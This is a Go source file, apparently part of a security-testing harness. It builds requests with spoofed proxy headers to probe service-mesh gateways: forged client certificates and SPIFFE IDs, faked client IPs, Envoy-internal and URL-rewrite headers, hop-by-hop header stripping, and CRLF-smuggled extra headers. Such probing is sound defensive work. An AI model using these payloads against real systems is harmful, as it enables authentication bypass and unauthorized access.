package adversary

// Headers by which proxies tell each other who asks, for what, and from where.

func clientCertificates(gates []gate, identity string) []Attempt {
	var lines []string
	for _, name := range []string{"X-Forwarded-Client-Cert", "x-forwarded-client-cert", "X-Client-Cert", "X-SSL-Client-Cert", "X-Forwarded-Tls-Client-Cert", "X_Forwarded_Client_Cert"} {
		for _, form := range []string{
			"URI=%s", "By=spiffe://cluster.local/ns/shop/sa/default;Hash=0000;Subject=\"\";URI=%s", "URI=%[1]s,URI=%[1]s", "uri=%s", "\"URI=%s\"", "Subject=\"CN=%s\"", "DNS=%s", "Hash=1;Cert=\"\";URI=\"%s\"",
		} {
			lines = append(lines, name+": "+sprint(form, identity))
		}
	}
	lines = append(lines, "X-Spiffe-Id: "+identity, "X-Envoy-Peer-Metadata: "+identity, "X-Envoy-Peer-Metadata-Id: sidecar~10.0.0.1~web.shop~shop.svc.cluster.local", "X-Istio-Attributes: "+identity)
	return heads(gates, lines...)
}

func clientAddresses(gates []gate, address string) []Attempt {
	var lines []string
	for _, name := range []string{"X-Forwarded-For", "x-forwarded-for", "X-Real-IP", "X-Client-IP", "True-Client-IP", "CF-Connecting-IP", "X-Originating-IP", "X-Remote-Addr", "X-Envoy-External-Address",
		"X-Envoy-Downstream-Remote-Address", "X-Cluster-Client-Ip", "X_Forwarded_For", "Client-IP"} {
		for _, form := range []string{"%s", "%s, 127.0.0.1", "127.0.0.1, %s", "%[1]s, %[1]s", "%s:443", "::ffff:%s", " %s", "%s,"} {
			lines = append(lines, name+": "+sprint(form, address))
		}
	}
	lines = append(lines, "Forwarded: for="+address, "Forwarded: for=\""+address+":80\";proto=https", "X-Envoy-Internal: true\r\nX-Forwarded-For: "+address, "X-Forwarded-For: "+address+"\r\nX-Forwarded-For: "+address)
	return heads(gates, lines...)
}

// envoyHeaders are those by which Envoys, and proxies before them, tell of paths, retries and time.
func envoyHeaders(gates []gate) []Attempt {
	return every(gates, func(g gate, path string) []Attempt {
		var texts []string
		for _, line := range []string{
			"X-Envoy-Original-Path: %[1]s", "X-Original-URL: %[1]s", "X-Rewrite-URL: %[1]s", "X-Original-URI: %[1]s", "X-Forwarded-Uri: %[1]s", "X-Forwarded-Path: %[1]s", "X-Forwarded-Prefix: %[1]s", "X-Envoy-Original-Host: %[2]s",
			"X-Envoy-Internal: true", "X-Envoy-Decorator-Operation: %[2]s%[1]s", "X-Envoy-Upstream-Alt-Stat-Name: a", "X-Envoy-Upstream-Rq-Timeout-Ms: 1", "X-Envoy-Retry-On: 4xx,5xx\r\nX-Envoy-Max-Retries: 3",
			"X-Envoy-Retriable-Status-Codes: 403,404", "X-Envoy-Hedge-On-Per-Try-Timeout: true", "X-Envoy-Force-Trace: true", "X-Envoy-Ip-Tags: internal", "X-Forwarded-Proto: https", "X-Forwarded-Host: %[2]s",
			"X-Envoy-Attempt-Count: 2", "X-Envoy-Is-Timeout-Retry: true", "X-Envoy-Expected-Rq-Timeout-Ms: 1", "X-Envoy-Upstream-Service-Time: 0", "X-Envoy-Fault-Abort-Request: 200", "X-Istio-Attributes: CgA=",
			"X-Envoy-Cluster-Header: outbound|8080||web.shop.svc.cluster.local",
		} {
			line = sprint(line+"%.0[2]s", path, g.host)
			for _, method := range []string{"GET", "POST"} {
				texts = append(texts, h1(method, path, g.host, append([]string{line}, g.extra...)...))
			}
			texts = append(texts, h1("GET", g.doorPath+"/"+"?"+path, g.host, append([]string{line}, g.extra...)...))
		}
		return plain(texts...)
	})
}

// hopByHop names headers that the next proxy has to drop.
func hopByHop(gates []gate) []Attempt {
	var lines []string
	for _, name := range []string{"Authorization", "X-Forwarded-Client-Cert", "X-Forwarded-For", "X-Forwarded-Proto", "Host", ":authority", ":path", "X-User", "X-Request-Id", "Content-Length", "Transfer-Encoding", "X-Envoy-Internal", "Cookie", "Te", "Origin"} {
		lines = append(lines, "Connection: "+name, "Connection: close, "+name, "Connection: keep-alive, "+name, "Proxy-Connection: "+name, "Connection: "+name+"\r\nConnection: close")
	}
	return heads(gates, lines...)
}

// forwardedScheme says that it came in by HTTPS.
func forwardedScheme(gates []gate) []Attempt {
	var lines []string
	for _, name := range []string{"X-Forwarded-Proto", "x-forwarded-proto", "X-Forwarded-Scheme", "X-Scheme", "Front-End-Https", "X-Forwarded-Ssl", "X-Forwarded-Port", "X-Url-Scheme", "CloudFront-Forwarded-Proto"} {
		for _, said := range []string{"https", "HTTPS", "https, http", "wss", "on", "443"} {
			lines = append(lines, name+": "+said)
		}
	}
	return heads(gates, append(lines, "Forwarded: proto=https", "Upgrade-Insecure-Requests: 1")...)
}
